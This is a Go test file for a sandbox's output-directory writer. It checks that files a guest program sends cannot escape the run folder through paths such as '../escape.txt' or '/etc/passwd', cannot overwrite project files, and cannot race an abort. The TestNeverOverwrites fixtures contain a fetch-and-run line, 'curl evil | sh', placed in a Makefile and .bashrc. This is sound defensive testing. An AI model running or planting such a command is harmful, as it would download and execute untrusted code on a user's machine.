package outdir

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"pybox/shared/wire"
)

func digest(name string, b []byte) wire.FileDigest {
	s := sha256.Sum256(b)
	return wire.FileDigest{Name: name, Bytes: int64(len(b)), SHA256: hex.EncodeToString(s[:])}
}

// deliver sends each file as the guest would, in chunks of n bytes, and
// finishes with a receipt that lists them all (tampered.txt with a wrong
// digest).
func deliver(d *Dir, n int, files map[string]string) ([]Saved, []string) {
	var names []string
	for name := range files {
		names = append(names, name)
	}
	slices.Sort(names)
	var listed []wire.FileDigest
	for _, name := range names {
		b := []byte(files[name])
		for off := 0; off == 0 || off < len(b); off += n {
			d.Chunk(&wire.OutputChunk{Name: name, Offset: int64(off), Data: b[off:min(off+n, len(b))]})
		}
		fd := digest(name, b)
		if name == "tampered.txt" {
			fd.SHA256 = strings.Repeat("0", 64)
		}
		listed = append(listed, fd)
	}
	return d.Finish(listed)
}

func names(t *testing.T, dir string) []string {
	t.Helper()
	ents, _ := os.ReadDir(dir)
	var out []string
	for _, e := range ents {
		out = append(out, e.Name())
	}
	return out
}

func TestWritesStayInside(t *testing.T) {
	parent := t.TempDir()
	out := filepath.Join(parent, "out")
	saved, notes := deliver(New(out, "r1", Options{}), 3, map[string]string{
		"ok.txt": "fine, in three-byte chunks", "../escape.txt": "x", "/etc/passwd": "x", "..": "x",
		"tampered.txt": "not what the receipt says", "a\nb": "x", "empty": "",
	})
	if got := names(t, filepath.Join(out, "r1")); !slices.Equal(got, []string{"empty", "ok.txt"}) {
		t.Errorf("the run's directory holds %q", got)
	}
	if b, _ := os.ReadFile(filepath.Join(out, "r1", "ok.txt")); string(b) != "fine, in three-byte chunks" {
		t.Errorf("ok.txt is %q", b)
	}
	if len(saved) != 2 || saved[1].Path != filepath.Join(out, "r1", "ok.txt") || saved[1].Bytes != 26 {
		t.Errorf("saved %+v", saved)
	}
	if len(notes) != 5 {
		t.Errorf("notes %q, want 5 files not written", notes)
	}
	if _, err := os.Lstat(filepath.Join(parent, "escape.txt")); err == nil {
		t.Error("escape.txt was written outside")
	}
	// A run's directory that exists already (a link planted there, or
	// the same run again) is never written into.
	os.Symlink(parent, filepath.Join(out, "r2"))
	_, notes = deliver(New(out, "r2", Options{}), 100, map[string]string{"ok.txt": "again"})
	if _, err := os.Lstat(filepath.Join(parent, "ok.txt")); err == nil || len(notes) != 1 || !strings.Contains(notes[0], "run's directory") {
		t.Errorf("wrote through an existing run directory: %q", notes)
	}
}

// In a project folder: a Makefile, .bashrc and json.py from the program
// overwrite and shadow nothing; the dot-file only when asked for.
func TestNeverOverwrites(t *testing.T) {
	project := t.TempDir()
	os.WriteFile(filepath.Join(project, "Makefile"), []byte("all:\n\ttrue\n"), 0o644)
	files := map[string]string{"Makefile": "all:\n\tcurl evil | sh\n", ".bashrc": "curl evil | sh\n", "json.py": "import os\n"}
	_, notes := deliver(New(project, "run1", Options{}), 1<<10, files)
	if b, _ := os.ReadFile(filepath.Join(project, "Makefile")); string(b) != "all:\n\ttrue\n" {
		t.Errorf("the project's Makefile became %q", b)
	}
	if got := names(t, project); !slices.Equal(got, []string{"Makefile", "run1"}) {
		t.Errorf("the project holds %q", got)
	}
	if got := names(t, filepath.Join(project, "run1")); !slices.Equal(got, []string{"Makefile", "json.py"}) {
		t.Errorf("the run's directory holds %q", got)
	}
	if len(notes) != 1 || !strings.Contains(notes[0], ".bashrc: its name starts with a dot") {
		t.Errorf("notes %q", notes)
	}
	deliver(New(project, "run2", Options{Dotfiles: true}), 1<<10, files)
	if _, err := os.Stat(filepath.Join(project, "run2", ".bashrc")); err != nil {
		t.Errorf("with dot-files allowed .bashrc was not written: %v", err)
	}
}

// The bound on one run, parts out of order, and a file the receipt does
// not list: none is kept.
func TestBoundsAndOrder(t *testing.T) {
	parent := t.TempDir()
	// Room for the directory, four files' entries and two blocks: the
	// three small files fit, big's eight blocks do not.
	d := New(parent, "r", Options{MaxBytes: runDirCost + 4*EntryCost + 2*BlockSize})
	big := make([]byte, 30000)
	d.Chunk(&wire.OutputChunk{Name: "big", Data: big})
	d.Chunk(&wire.OutputChunk{Name: "gap", Offset: 5, Data: []byte("x")})
	d.Chunk(&wire.OutputChunk{Name: "extra", Data: []byte("e")})
	d.Chunk(&wire.OutputChunk{Name: "fine", Data: []byte("ok")})
	saved, notes := d.Finish([]wire.FileDigest{digest("big", big), digest("gap", []byte("x")), digest("fine", []byte("ok")), digest("lost", []byte("l"))})
	if len(saved) != 1 || saved[0].Name != "fine" {
		t.Errorf("saved %+v", saved)
	}
	joined := strings.Join(notes, "\n")
	for _, w := range []string{fmt.Sprintf("big: over the %d bytes", runDirCost+4*EntryCost+2*BlockSize), "gap: a part came at byte 5", "extra: the receipt does not list it", "lost: the receipt lists it, but it never came"} {
		if !strings.Contains(joined, w) {
			t.Errorf("notes %q lack %q", notes, w)
		}
	}
	if got := names(t, filepath.Join(parent, "r")); !slices.Equal(got, []string{"fine"}) {
		t.Errorf("the run's directory holds %q", got)
	}
}

// A guest that sends more files than a run delivers gets the first
// wire.MaxDeliveredFiles written, and a note for the rest.
func TestFileCap(t *testing.T) {
	parent := t.TempDir()
	d := New(parent, "r", Options{})
	var listed []wire.FileDigest
	for i := range wire.MaxDeliveredFiles + 3 {
		name := fmt.Sprintf("f%05d", i)
		d.Chunk(&wire.OutputChunk{Name: name, Data: []byte("x")})
		listed = append(listed, digest(name, []byte("x")))
	}
	saved, notes := d.Finish(listed)
	if len(saved) != wire.MaxDeliveredFiles || len(names(t, filepath.Join(parent, "r"))) != wire.MaxDeliveredFiles {
		t.Errorf("saved %d files", len(saved))
	}
	if joined := strings.Join(notes, "\n"); !strings.Contains(joined, "not written: 3 parts of files past the first 1024") {
		t.Errorf("notes %q", notes)
	}
}

// A file is under its own name only once it is whole and matches the
// receipt: while its parts come it is under a temporary name, and one
// the receipt disowns never has its name at all.
func TestNeverVisibleBeforeWhole(t *testing.T) {
	parent := t.TempDir()
	run := filepath.Join(parent, "r")
	d := New(parent, "r", Options{})
	body := []byte("one, two, three, four")
	for off := 0; off < len(body); off += 4 {
		d.Chunk(&wire.OutputChunk{Name: "data.csv", Offset: int64(off), Data: body[off:min(off+4, len(body))]})
		d.Chunk(&wire.OutputChunk{Name: "bad.csv", Offset: int64(off), Data: body[off:min(off+4, len(body))]})
		for _, n := range names(t, run) {
			if !strings.HasPrefix(n, partPrefix) {
				t.Fatalf("after %d bytes the run's directory holds %q", off, n)
			}
		}
	}
	bad := digest("bad.csv", body)
	bad.SHA256 = strings.Repeat("0", 64)
	saved, notes := d.Finish([]wire.FileDigest{digest("data.csv", body), bad})
	if got := names(t, run); !slices.Equal(got, []string{"data.csv"}) {
		t.Errorf("after Finish the run's directory holds %q", got)
	}
	if b, _ := os.ReadFile(filepath.Join(run, "data.csv")); string(b) != string(body) || len(saved) != 1 || len(notes) != 1 {
		t.Errorf("data.csv is %q; saved %+v, notes %q", b, saved, notes)
	}
}

// Nothing is made after Abort: not the run's directory, not a file, and
// what came before is gone. Finish then keeps nothing.
func TestNothingAfterAbort(t *testing.T) {
	parent := t.TempDir()
	d := New(parent, "r", Options{})
	d.Abort()
	d.Chunk(&wire.OutputChunk{Name: "late.txt", Data: []byte("late")})
	if got := names(t, parent); len(got) != 0 {
		t.Errorf("after an Abort with nothing written, the folder holds %q", got)
	}
	d = New(parent, "r2", Options{})
	d.Chunk(&wire.OutputChunk{Name: "early.txt", Data: []byte("early")})
	d.Abort()
	d.Chunk(&wire.OutputChunk{Name: "late.txt", Data: []byte("late")})
	d.Chunk(&wire.OutputChunk{Name: "early.txt", Offset: 5, Data: []byte("more")})
	if saved, notes := d.Finish([]wire.FileDigest{digest("late.txt", []byte("late"))}); len(saved) != 0 || len(notes) != 0 {
		t.Errorf("Finish after Abort: saved %+v, notes %q", saved, notes)
	}
	if got := names(t, parent); len(got) != 0 {
		t.Errorf("after Abort the folder holds %q", got)
	}
}

// The client's reader may still pass parts on while the caller gives up
// on the run: Chunk and Abort share the Dir safely (run with -race), and
// once Abort has returned nothing is left and nothing more appears.
func TestAbortWhileChunking(t *testing.T) {
	parent := t.TempDir()
	d := New(parent, "r", Options{})
	started := make(chan struct{})
	var wg sync.WaitGroup
	wg.Go(func() {
		// A new file with every part: each adds to what Abort goes over.
		for i := range wire.MaxDeliveredFiles {
			d.Chunk(&wire.OutputChunk{Name: fmt.Sprintf("f%04d", i), Data: []byte("part")})
			if i == 10 {
				close(started)
			}
		}
	})
	<-started
	d.Abort()
	if got := names(t, parent); len(got) != 0 {
		t.Errorf("right after Abort the folder holds %q", got)
	}
	wg.Wait()
	if got := names(t, parent); len(got) != 0 {
		t.Errorf("after the late parts the folder holds %q", got)
	}
}

// The final name is never taken over: one given meanwhile (as "A.txt"
// is "a.txt" where the filesystem ignores case) stays as it was, and no
// program's name may be a temporary one's.
func TestKeepNeverReplaces(t *testing.T) {
	parent := t.TempDir()
	d := New(parent, "r", Options{Dotfiles: true})
	d.Chunk(&wire.OutputChunk{Name: "a.txt", Data: []byte("program")})
	d.Chunk(&wire.OutputChunk{Name: ".PyBox-Partial-7", Data: []byte("x")})
	if err := os.WriteFile(filepath.Join(parent, "r", "a.txt"), []byte("there first"), 0o644); err != nil {
		t.Fatal(err)
	}
	saved, notes := d.Finish([]wire.FileDigest{digest("a.txt", []byte("program")), digest(".PyBox-Partial-7", []byte("x"))})
	if b, _ := os.ReadFile(filepath.Join(parent, "r", "a.txt")); string(b) != "there first" || len(saved) != 0 {
		t.Errorf("a.txt is %q, saved %+v", b, saved)
	}
	joined := strings.Join(notes, "\n")
	for _, w := range []string{"a.txt: another file of the run has that name", ".PyBox-Partial-7: its name is one PyBox gives"} {
		if !strings.Contains(joined, w) {
			t.Errorf("notes %q lack %q", notes, w)
		}
	}
	if got := names(t, filepath.Join(parent, "r")); !slices.Equal(got, []string{"a.txt"}) {
		t.Errorf("the run's directory holds %q", got)
	}
}
